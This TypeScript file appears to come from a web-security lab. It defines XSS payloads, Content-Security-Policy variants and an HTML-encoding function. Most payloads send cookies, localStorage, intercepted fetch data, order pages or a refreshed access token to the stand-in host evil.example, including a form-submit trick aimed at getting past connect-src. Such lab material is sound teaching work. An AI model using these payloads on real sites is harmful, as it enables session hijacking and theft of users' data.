/** Payloads to begin with. Each is text in a box, to be changed. */

export interface Payload {
  readonly id: string;
  readonly label: string;
  /** One sentence: what it tries. */
  readonly says: string;
  readonly markup: string;
}

export const PAYLOADS: readonly [Payload, ...Payload[]] = [
  {
    id: 'read-storage',
    label: 'Read localStorage',
    says: 'Copies all of localStorage into the address of a request.',
    markup: `<img src=x onerror="
  fetch('https://evil.example/?c=' +
    encodeURIComponent(
      JSON.stringify(localStorage)))">`,
  },
  {
    id: 'read-cookie',
    label: 'Read document.cookie with an image',
    says: 'Puts the cookies that script can see into the address of an image.',
    markup: `<script>
new Image().src = 'https://evil.example/?c=' +
  encodeURIComponent(document.cookie);
</script>`,
  },
  {
    id: 'hook-fetch',
    label: 'Catch a token in use',
    says: 'Replaces fetch, and copies what the page’s own script sends.',
    markup: `<script>
const real = window.fetch;
window.fetch = (input, init) => {
  navigator.sendBeacon('https://evil.example/', JSON.stringify(init));
  return real(input, init);
};
</script>`,
  },
  {
    id: 'act',
    label: 'Act from the page',
    says: 'Reads the orders as the victim and sends them home. It needs to read no credential.',
    markup: `<script>
fetch('/orders')
  .then((response) => response.text())
  .then((text) => navigator.sendBeacon('https://evil.example/', text));
</script>`,
  },
  {
    id: 'refresh',
    label: 'Ask for a new token',
    says: 'Makes the browser send the refresh token, which no script can read, and reads the new access token.',
    markup: `<script>
(async () => {
  const response = await fetch('/auth/refresh', { method: 'POST' });
  navigator.sendBeacon('https://evil.example/', await response.text());
})();
</script>`,
  },
  {
    id: 'form',
    label: 'Send a form',
    says: 'Sends cookies and localStorage in a form, which connect-src does not block.',
    markup: `<form action="https://evil.example/" method="post">
  <input type="hidden" name="c">
</form>
<script>
const form = document.forms[0];
form.c.value = document.cookie + JSON.stringify(localStorage);
form.submit();
</script>`,
  },
  {
    id: 'loop',
    label: 'Never end',
    says: 'An endless loop. The lab stops it and removes its frame.',
    markup: `<script>
while (true) {}
</script>`,
  },
];

interface PagePolicy {
  readonly id: string;
  readonly label: string;
  /** As the page has it; empty: none. `{nonce}` stands for a nonce that is new each time. */
  readonly policy: string;
}

export const PAGE_POLICIES: readonly [PagePolicy, ...PagePolicy[]] = [
  { id: 'none', label: 'none', policy: '' },
  { id: 'nonce', label: 'script only with a nonce', policy: "script-src 'nonce-{nonce}'" },
  {
    id: 'connect',
    label: 'requests only to the shop',
    policy: 'connect-src https://shop.example; img-src https://shop.example',
  },
];

/** Text as it is in markup when its output is encoded (HTML, serialisation of text). */
export const encodeOutput = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');
